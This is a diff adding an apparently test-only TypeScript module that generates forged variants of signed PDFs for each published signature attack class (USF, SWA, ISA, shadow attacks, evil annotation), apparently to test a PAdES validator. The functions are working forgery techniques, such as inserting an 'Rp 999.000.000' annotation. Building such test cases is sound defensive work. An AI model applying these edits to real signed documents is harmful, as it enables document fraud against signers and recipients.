@@ -1,0 +1,268 @@
+/**
+ * Attack generator (test-only): byte-level edits of a signed PDF for each attack class in
+ * PADES.md — USF and SWA (CCS 2019), ISA, shadow hide/replace/hide-and-replace (NDSS 2021),
+ * evil annotation and sneaky signature (IEEE S&P 2021).
+ */
+import { scanPdf } from "../pdf-scan/document";
+import { dictGet, type PdfValue } from "../pdf-scan/objects";
+import { indexOf, lastIndexOf } from "../pdf-scan/parser";
+import { appendUpdate, nextObjectNumber, serialize } from "./incremental";
+import { firstPage } from "./test-signer";
+
+const enc = new TextEncoder();
+
+function replaceSameLength(pdf: Uint8Array, at: number, text: string): Uint8Array {
+  const out = pdf.slice();
+  out.set(enc.encode(text), at);
+  return out;
+}
+
+function lastSigDict(pdf: Uint8Array): { br: number; contents: number } {
+  return { br: lastIndexOf(pdf, "/ByteRange"), contents: lastIndexOf(pdf, "/Contents <") };
+}
+
+function ref(v: PdfValue | undefined): number | null {
+  return v !== null && typeof v === "object" && v?.kind === "ref" ? v.num : null;
+}
+
+/** USF: `/Contents` renamed away (the dictionary has no signature value). */
+export function usfNoContents(pdf: Uint8Array): Uint8Array {
+  return replaceSameLength(pdf, lastSigDict(pdf).contents, "/Cxntents");
+}
+
+/** USF: `/ByteRange` renamed away. */
+export function usfNoByteRange(pdf: Uint8Array): Uint8Array {
+  return replaceSameLength(pdf, lastSigDict(pdf).br, "/BxteRange");
+}
+
+/** USF: `/ByteRange` set to null (padded with spaces to keep every offset). */
+export function usfNullByteRange(pdf: Uint8Array): Uint8Array {
+  const at = lastSigDict(pdf).br;
+  const end = indexOf(pdf, "]", at) + 1;
+  return replaceSameLength(pdf, at, `/ByteRange null`.padEnd(end - at, " "));
+}
+
+/** USF: `/Contents` filled with zeros (no CMS at all). */
+export function usfZeroContents(pdf: Uint8Array): Uint8Array {
+  const at = lastSigDict(pdf).contents + 10;
+  const end = indexOf(pdf, ">", at);
+  return replaceSameLength(pdf, at, `<${"0".repeat(end - at - 1)}`);
+}
+
+/** USF: garbage (non-DER) bytes as the signature value. */
+export function usfGarbageContents(pdf: Uint8Array): Uint8Array {
+  const at = lastSigDict(pdf).contents + 11;
+  return replaceSameLength(pdf, at, "3082ffff".repeat(8));
+}
+
+/** Rewrites the four /ByteRange numbers in place (same width). */
+export function setByteRange(pdf: Uint8Array, values: readonly [number, number, number, number]): Uint8Array {
+  const at = lastSigDict(pdf).br;
+  const end = indexOf(pdf, "]", at) + 1;
+  const text = `/ByteRange [${values.join(" ")}]`;
+  if (text.length > end - at) throw new Error("byte range too wide");
+  return replaceSameLength(pdf, at, text.padEnd(end - at, " "));
+}
+
+/** Reads the current /ByteRange of the last signature dictionary. */
+export function byteRangeOf(pdf: Uint8Array): [number, number, number, number] {
+  const at = lastSigDict(pdf).br;
+  const end = indexOf(pdf, "]", at);
+  const nums = new TextDecoder()
+    .decode(pdf.subarray(indexOf(pdf, "[", at) + 1, end))
+    .trim()
+    .split(/\s+/)
+    .map(Number);
+  return nums as [number, number, number, number];
+}
+
+/** SWA: the second range is duplicated/moved so the gap holds more than /Contents. */
+export function swaGapTooBig(pdf: Uint8Array): Uint8Array {
+  const [a, l1, b, l2] = byteRangeOf(pdf);
+  return setByteRange(pdf, [a, l1 - 40, b, l2]);
+}
+
+/** SWA: both ranges start at 0 (overlapping, out of order). */
+export function swaOverlapping(pdf: Uint8Array): Uint8Array {
+  const [, l1] = byteRangeOf(pdf);
+  return setByteRange(pdf, [0, l1, 0, l1]);
+}
+
+/** SWA/ISA: the signed range stops short of the end of the revision. */
+export function swaTailUncovered(pdf: Uint8Array): Uint8Array {
+  const [a, l1, b, l2] = byteRangeOf(pdf);
+  return setByteRange(pdf, [a, l1, b, l2 - 30]);
+}
+
+function replacePageContent(pdf: Uint8Array, text: string): Uint8Array {
+  const s = scanPdf(pdf);
+  const view = s.view(s.revisions.length - 1);
+  const pageNum = firstPage(pdf);
+  const page = view.object(pageNum);
+  const n = nextObjectNumber(pdf);
+  const entries =
+    page !== null && typeof page === "object" && page.kind === "dict"
+      ? [...page.entries].filter(([k]) => k !== "Contents").map(([k, v]) => `/${k} ${serialize(v)}`)
+      : [];
+  const stream = `BT /F1 24 Tf 72 500 Td (${text}) Tj ET`;
+  return appendUpdate(pdf, [
+    { num: n, text: `<</Length ${stream.length}>>\nstream\n${stream}\nendstream` },
+    { num: pageNum, text: `<<${entries.join(" ")} /Contents ${n} 0 R>>` },
+  ]);
+}
+
+/** ISA: a new revision replaces the first page's content. */
+export function isaNewContent(pdf: Uint8Array): Uint8Array {
+  return replacePageContent(pdf, "DIBATALKAN");
+}
+
+/** ISA without xref or trailer: objects appended after the last %%EOF. */
+export function isaAppendedObjects(pdf: Uint8Array): Uint8Array {
+  const n = nextObjectNumber(pdf);
+  const tail = enc.encode(`${n} 0 obj\n<</Length 20>>\nstream\nBT (forged) Tj ET  \nendstream\nendobj\n`);
+  const out = new Uint8Array(pdf.length + tail.length);
+  out.set(pdf);
+  out.set(tail, pdf.length);
+  return out;
+}
+
+/** ISA with a complete new xref table and no /Prev: the old revisions vanish from the chain. */
+export function isaFullRewriteXref(pdf: Uint8Array): Uint8Array {
+  const s = scanPdf(pdf);
+  const view = s.view(s.revisions.length - 1);
+  const nums = [...view.entries.keys()].sort((a, b) => a - b);
+  const size = nums[nums.length - 1]! + 1;
+  let xref = `xref\n0 ${size}\n`;
+  for (let i = 0; i < size; i++) {
+    const e = view.entries.get(i);
+    xref +=
+      e?.type === "offset" ? `${String(e.offset).padStart(10, "0")} 00000 n \n` : "0000000000 65535 f \n";
+  }
+  const at = pdf.length;
+  const text = enc.encode(
+    `${xref}trailer\n<</Size ${size} /Root ${serialize(view.trailer.entries.get("Root"))}>>\nstartxref\n${at}\n%%EOF\n`,
+  );
+  const out = new Uint8Array(pdf.length + text.length);
+  out.set(pdf);
+  out.set(text, pdf.length);
+  return out;
+}
+
+/**
+ * Prepares a document for shadow attacks before it is signed: revision 0 holds the attacker's
+ * page content, revision 1 replaces it with the benign text the signer sees.
+ */
+export function shadowPrepare(unsigned: Uint8Array): {
+  pdf: Uint8Array;
+  contentNum: number;
+  preparedCatalog: number;
+} {
+  const evil = replacePageContent(unsigned, "EVIL SHADOW TEXT");
+  const s = scanPdf(evil);
+  const view = s.view(s.revisions.length - 1);
+  const contentNum = ref(dictGet(view.object(firstPage(evil)), "Contents"))!;
+  const benign = "BT /F1 24 Tf 72 500 Td (benign text) Tj ET";
+  const preparedCatalog = nextObjectNumber(evil);
+  const pdf = appendUpdate(evil, [
+    { num: contentNum, text: `<</Length ${benign.length}>>\nstream\n${benign}\nendstream` },
+    { num: preparedCatalog, text: serialize(view.catalog()) },
+  ]);
+  return { pdf, contentNum, preparedCatalog };
+}
+
+/** Shadow hide: an xref-only update re-points the content object to its older (evil) body. */
+export function shadowHide(signed: Uint8Array, contentNum: number): Uint8Array {
+  const s = scanPdf(signed);
+  let oldOffset = -1;
+  for (const sec of s.sections) {
+    const e = sec.entries.get(contentNum);
+    if (e?.type === "offset") {
+      oldOffset = e.offset;
+      break;
+    }
+  }
+  const last = s.sections[s.sections.length - 1]!;
+  const trailer = [...last.trailer.entries]
+    .filter(([k]) => ["Root", "Info", "ID"].includes(k))
+    .map(([k, v]) => `/${k} ${serialize(v)}`)
+    .join(" ");
+  const size = Number(last.trailer.entries.get("Size") ?? 0);
+  const at = signed.length;
+  const text = enc.encode(
+    `xref\n${contentNum} 1\n${String(oldOffset).padStart(10, "0")} 00000 n \ntrailer\n<</Size ${size} /Prev ${last.offset} ${trailer}>>\nstartxref\n${at}\n%%EOF\n`,
+  );
+  const out = new Uint8Array(signed.length + text.length);
+  out.set(signed);
+  out.set(text, signed.length);
+  return out;
+}
+
+/** Shadow replace: an update overrides an existing object (the page content) with new bytes. */
+export function shadowReplace(signed: Uint8Array, contentNum: number): Uint8Array {
+  const t = "BT /F1 24 Tf 72 500 Td (replaced) Tj ET";
+  return appendUpdate(signed, [
+    { num: contentNum, text: `<</Length ${t.length}>>\nstream\n${t}\nendstream` },
+  ]);
+}
+
+/** Shadow hide-and-replace: the trailer's /Root is pointed at a catalog prepared before signing. */
+export function shadowHideAndReplace(signed: Uint8Array, preparedCatalog: number): Uint8Array {
+  return appendUpdate(signed, [], { rootOverride: preparedCatalog });
+}
+
+/** Frees an object in an update that adds nothing (xref-only). */
+export function freeObject(signed: Uint8Array, num: number): Uint8Array {
+  return appendUpdate(signed, [], { free: [num] });
+}
+
+/** Evil Annotation Attack: adds a FreeText annotation to the first page. */
+export function evilAnnotation(signed: Uint8Array): Uint8Array {
+  const s = scanPdf(signed);
+  const view = s.view(s.revisions.length - 1);
+  const pageNum = firstPage(signed);
+  const page = view.object(pageNum);
+  const n = nextObjectNumber(signed);
+  const annots = dictGet(page, "Annots");
+  const old = (() => {
+    const a = view.resolve(annots);
+    return a !== null && typeof a === "object" && a?.kind === "array" ? a.items.map(serialize).join(" ") : "";
+  })();
+  const entries =
+    page !== null && typeof page === "object" && page.kind === "dict"
+      ? [...page.entries].filter(([k]) => k !== "Annots").map(([k, v]) => `/${k} ${serialize(v)}`)
+      : [];
+  return appendUpdate(signed, [
+    {
+      num: n,
+      text: `<</Type /Annot /Subtype /FreeText /Rect [72 400 500 450] /Contents (Rp 999.000.000) /DA (/Helv 20 Tf 0 g) /P ${pageNum} 0 R>>`,
+    },
+    { num: pageNum, text: `<<${entries.join(" ")} /Annots [${old} ${n} 0 R]>>` },
+  ]);
+}
+
+/** Fills a text field: writes /V into the field's dictionary (form filling, ISO 32000-2 §12.7.5). */
+export function fillTextField(pdf: Uint8Array, fieldName: string, value: string): Uint8Array {
+  const s = scanPdf(pdf);
+  const view = s.view(s.revisions.length - 1);
+  const fields = view.resolve(dictGet(view.resolve(dictGet(view.catalog(), "AcroForm")), "Fields"));
+  const items = fields !== null && typeof fields === "object" && fields?.kind === "array" ? fields.items : [];
+  for (const f of items) {
+    const num = ref(f);
+    const d = view.resolve(f);
+    const t = dictGet(d, "T");
+    if (
+      num === null ||
+      t === null ||
+      typeof t !== "object" ||
+      t?.kind !== "string" ||
+      new TextDecoder().decode(t.bytes) !== fieldName
+    )
+      continue;
+    const entries =
+      d !== null && typeof d === "object" && d?.kind === "dict"
+        ? [...d.entries].filter(([k]) => k !== "V").map(([k, v]) => `/${k} ${serialize(v)}`)
+        : [];
+    return appendUpdate(pdf, [{ num, text: `<<${entries.join(" ")} /V (${value})>>` }]);
+  }
+  throw new Error(`no field ${fieldName}`);
+}
